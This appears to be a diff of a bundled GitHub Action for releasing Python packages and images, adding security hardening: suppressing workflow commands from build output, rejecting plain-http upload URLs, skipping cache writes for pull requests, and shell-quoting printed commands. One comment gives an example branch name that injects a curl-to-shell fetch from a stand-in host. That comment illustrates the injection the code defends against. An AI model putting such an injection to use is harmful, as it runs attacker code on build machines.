@@ -90,8 +90,14 @@ function keepTail(text) {
 async function run(program, args, options = {}) {
     if (stopping)
         throw new StoppedError(`Not starting ${program}: the action is being stopped.`);
-    if (options.stream)
+    // A streamed program's output is the project's (a build, a Dockerfile's steps): the runner reads it as text only.
+    if (options.stream) {
         (0,_runner_js__WEBPACK_IMPORTED_MODULE_1__/* .write */ .M9)(`[command]${program} ${args.join(' ')}\n`);
+        return (0,_runner_js__WEBPACK_IMPORTED_MODULE_1__/* .asText */ .e1)(() => runChild(program, args, options));
+    }
+    return runChild(program, args, options);
+}
+async function runChild(program, args, options) {
     // A process group of its own, so that a deadline or a cancel stops the program's children too (docker's plugins).
     const child = (0,node_child_process__WEBPACK_IMPORTED_MODULE_0__.spawn)(program, args, {
         cwd: options.cwd,
@@ -484,6 +490,7 @@ function readVersioning(projectDir, tagPrefix, env) {
 /* harmony export */   V9: () => (/* binding */ getIDToken),
 /* harmony export */   Yz: () => (/* binding */ debug),
 /* harmony export */   ay: () => (/* binding */ commandLine),
+/* harmony export */   e1: () => (/* binding */ asText),
 /* harmony export */   fe: () => (/* binding */ appendSummary),
 /* harmony export */   lm: () => (/* binding */ notice),
 /* harmony export */   pq: () => (/* binding */ info),
@@ -561,7 +568,27 @@ function unescapeData(text) {
 }
 /** A workflow command as the runner reads it on standard output: `::name::message`, the message escaped. */
 function commandLine(name, message) {
+    // Commands resume at a line of the stop's own token: `::<token>::`.
+    if (name === 'resume-commands')
+        return `::${message}::${node_os__WEBPACK_IMPORTED_MODULE_2__.EOL}`;
     return `::${name}::${escapeData(message)}${node_os__WEBPACK_IMPORTED_MODULE_2__.EOL}`;
+}
+/**
+ * What `body` lets a child print is text to the runner, never a workflow command: a pull request's build could
+ * otherwise issue ::add-mask::, ::error:: or ::stop-commands:: of its own. Commands stop under a token no child can
+ * know, and resume at it.
+ */
+async function asText(body) {
+    const token = (0,node_crypto__WEBPACK_IMPORTED_MODULE_0__.randomUUID)();
+    sink.command('stop-commands', token);
+    try {
+        return await body();
+    }
+    finally {
+        // On a line of its own, whatever the child's last line left open.
+        sink.write(node_os__WEBPACK_IMPORTED_MODULE_2__.EOL);
+        sink.command('resume-commands', token);
+    }
 }
 /** An input as the runner passes it (INPUT_<NAME>), trimmed; '' when not given. */
 function getInput(name) {
@@ -1317,7 +1344,10 @@ const UPLOAD_URLS = {
 function uploadUrlProblem(url, example) {
     if (!/^https?:\/\/[^/\s]+/i.test(url))
         return `is not an http(s) URL; give the index's upload URL, like ${example}.`;
-    const { host, pathname } = new URL(url);
+    const { host, hostname, pathname, protocol } = new URL(url);
+    // A token, and trusted publishing's exchange, go there: never in the clear, except to this machine.
+    if (protocol === 'http:' && !/^(localhost|127\.\d+\.\d+\.\d+|\[::1\])$/.test(hostname))
+        return `is plain http, which would send the upload token in the clear; give its https:// URL (http is only for an index on this machine's loopback).`;
     const upload = UPLOAD_URLS[host.toLowerCase()];
     if (upload && `https://${host.toLowerCase()}${pathname.replace(/\/?$/, '/')}` !== upload)
         return `is not where ${host} takes uploads; give ${upload}.`;
@@ -1528,7 +1558,8 @@ function stepSettings(inputs, type) {
         mode: inputs.mode,
         digestsDir: inputs.digestsDir,
         cacheFrom: inputs.cacheFrom,
-        cacheTo: inputs.cacheTo,
+        // A pull request's build (its code, maybe a fork's) writes no cache that release builds would read.
+        cacheTo: type === 'verify' ? [] : inputs.cacheTo,
         timeouts,
         registryUsername: inputs.registryUsername,
         registryPassword: inputs.registryPassword,
@@ -1547,7 +1578,9 @@ function stepSettings(inputs, type) {
         attestations: { image: inputs.attestImage, dists: inputs.attestDists, githubToken: inputs.githubToken },
         cleanup: {
             logins: completeLogins(image),
-            githubToken: inputs.githubToken || inputs.registryPassword,
+            // GitHub's packages API takes github-token, else ghcr.io's own login (a GITHUB_TOKEN): never the password of
+            // another registry, which api.github.com has no business seeing.
+            githubToken: inputs.githubToken || credentialsFor(image, 'ghcr.io')?.password || '',
             timeouts
         }
     };
@@ -1598,8 +1631,10 @@ function imageCredentialsFor(settings, image) {
 /* harmony export */   p0: () => (/* binding */ verifyCommand)
 /* harmony export */ });
 /* harmony import */ var _plan_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(48720);
+/* harmony import */ var _versions_words_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(13880);
 // The plan, as a person reads it: a Markdown table for the job summary and
 // aligned text for the log.
+
 
 const TYPE_LABEL = {
     release: 'Release',
@@ -1698,7 +1733,9 @@ function summaryAsText(markdown) {
 /** The command that reads this push's release back (docs/verify.md): the same ref, image, platforms and index. */
 function verifyCommand(plan, indexUrl) {
     const image = [plan.image, ...plan.mirrors].join(',');
-    return `dev-release verify --ref ${plan.ref} --image ${image} --platforms ${plan.platforms.join(',')} --pypi-url ${indexUrl}`;
+    // Every value quoted for a shell: the ref is a branch name, which anyone who can push chooses.
+    const q = _versions_words_js__WEBPACK_IMPORTED_MODULE_1__/* .shellQuote */ .ZL;
+    return `dev-release verify --ref ${q(plan.ref)} --image ${q(image)} --platforms ${q(plan.platforms.join(','))} --pypi-url ${q(indexUrl)}`;
 }
 
 
@@ -2788,25 +2825,29 @@ var setup_py = __nccwpck_require__(71354);
 
 
 const HATCH_KEYS = ['source', 'tag-pattern', 'fallback-version', 'raw-options'];
-/**
- * setup.py keys whose value may be code: they never change a version computed from git. Where the version is written
- * (write_to, version_file, their templates), the local part (dropped), where the repository is (root, relative_to:
- * `__file__`), and what stands in without git metadata (fallbacks, parentdir_prefix_version), which a release never
- * lacks. The rest can change the version (version_scheme, tag_regex, parse, git_describe_command, version_cls,
- * normalize, scm, dist_name: which SETUPTOOLS_SCM_*_FOR_<NAME> applies, search_parent_directories: which repository).
- */
-const CODE_ALLOWED = [
-    'local_scheme',
-    'relative_to',
+/** Keys that do not change a version computed from git (files to write, fallbacks for missing git metadata). */
+const NO_EFFECT = [
     'root',
+    'relative_to',
     'write_to',
     'write_to_template',
     'version_file',
     'version_file_template',
     'fallback_version',
     'fallback_root',
-    'parentdir_prefix_version'
+    'parentdir_prefix_version',
+    'dist_name',
+    'search_parent_directories',
+    'local_scheme',
+    'write_to_source' // setuptools-scm 10: where version files go, not what the version is
 ];
+/**
+ * setup.py keys whose value may be code: those of NO_EFFECT whose value, whatever it is, leaves a version computed
+ * from git as it is (where it is written, the local part, where the repository is: `__file__`, and what stands in
+ * without git metadata, which a release never lacks). Not `dist_name` (it picks which SETUPTOOLS_SCM_*_FOR_<NAME>
+ * applies) nor `search_parent_directories` (which repository): code there could change the version.
+ */
+const CODE_ALLOWED = NO_EFFECT.filter(key => !['dist_name', 'search_parent_directories'].includes(key));
 /** The settings of the project, from where its building tool reads them. */
 function configSource(info, setupPy) {
     const toml = info?.toml ?? {};
@@ -2938,22 +2979,6 @@ var versions_words = __nccwpck_require__(13880);
 
 
 const DEFAULT_DESCRIBE = { match: ['*[0-9]*'], exclude: [], tags: true, firstParent: false };
-/** Keys that do not change a version computed from git (files to write, fallbacks for missing git metadata). */
-const NO_EFFECT = [
-    'root',
-    'relative_to',
-    'write_to',
-    'write_to_template',
-    'version_file',
-    'version_file_template',
-    'fallback_version',
-    'fallback_root',
-    'parentdir_prefix_version',
-    'dist_name',
-    'search_parent_directories',
-    'local_scheme',
-    'write_to_source' // setuptools-scm 10: where version files go, not what the version is
-];
 const HONOURED = ['version_scheme', 'tag_regex', 'git_describe_command', 'normalize', 'tag', 'scm'];
 /** setuptools-scm 10's names for two schemes (vcs-versioning 2), and what they are in setuptools_scm 8 and 9. */
 const SCHEME_ALIASES = {
@@ -3423,6 +3448,7 @@ function computeVersion(scheme, s) {
 
 /* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
 /* harmony export */   LS: () => (/* binding */ plural),
+/* harmony export */   ZL: () => (/* binding */ shellQuote),
 /* harmony export */   ry: () => (/* binding */ splitList),
 /* harmony export */   sG: () => (/* binding */ splitArgs),
 /* harmony export */   uz: () => (/* binding */ splitLines)
@@ -3498,6 +3524,16 @@ function splitArgs(text) {
 /** `1 commit`, `3 commits`. */
 function plural(n, word) {
     return `${n} ${word}${n === 1 ? '' : 's'}`;
+}
+/**
+ * A word as a POSIX shell reads it back unchanged: as it is where it holds only characters no shell gives a meaning
+ * to, else in single quotes (a ' inside written '\''). For commands the action prints for a person to paste: a branch
+ * named `x$(curl${IFS}-s${IFS}evil|sh)` stays a name.
+ */
+function shellQuote(word) {
+    if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(word))
+        return word;
+    return `'${word.replace(/'/g, `'\\''`)}'`;
 }
 
 
@@ -9558,10 +9594,13 @@ const REF_EVENTS = ['push', 'workflow_dispatch'];
 function classify(event, skipBranches, tagRules = tag_rules/* defaultRules */.Z4, pullRequests = 'skip', cleanup = false, cleanupOnClose = false) {
     if (event.name === 'pull_request' && event.action === 'closed') {
         const branch = event.headRef ?? '';
-        if (event.headRepository && event.headRepository !== event.repository)
+        // Only a head proven to be this repository's owns the branch's tags: a deleted fork's head is null.
+        if (event.headRepository !== event.repository)
             return {
                 type: 'skip',
-                reason: `The closed pull request came from a fork (${event.headRepository}): its branch "${branch}" is not this repository's, so nothing is removed.`
+                reason: event.headRepository
+                    ? `The closed pull request came from a fork (${event.headRepository}): its branch "${branch}" is not this repository's, so nothing is removed.`
+                    : `The closed pull request's head repository is gone (a deleted fork) or unknown: its branch "${branch}" cannot be proven this repository's, so nothing is removed.`
             };
         if (cleanupOnClose && cleanup && branch)
             return { type: 'cleanup', branch, via: 'close' };
@@ -10597,8 +10636,8 @@ function terminal() {
             process.stdout.write(secrets.reduce((t, secret) => t.split(secret).join('***'), shown));
         },
         command(name, message) {
-            // The terminal shows what the runner shows by default: no debug lines.
-            if (name !== 'debug')
+            // The terminal shows what the runner shows by default: no debug lines, no switching of commands.
+            if (name !== 'debug' && name !== 'stop-commands' && name !== 'resume-commands')
                 sink.write((0,cli_runner/* commandLine */.ay)(name, message));
         },
         output(name, value) {
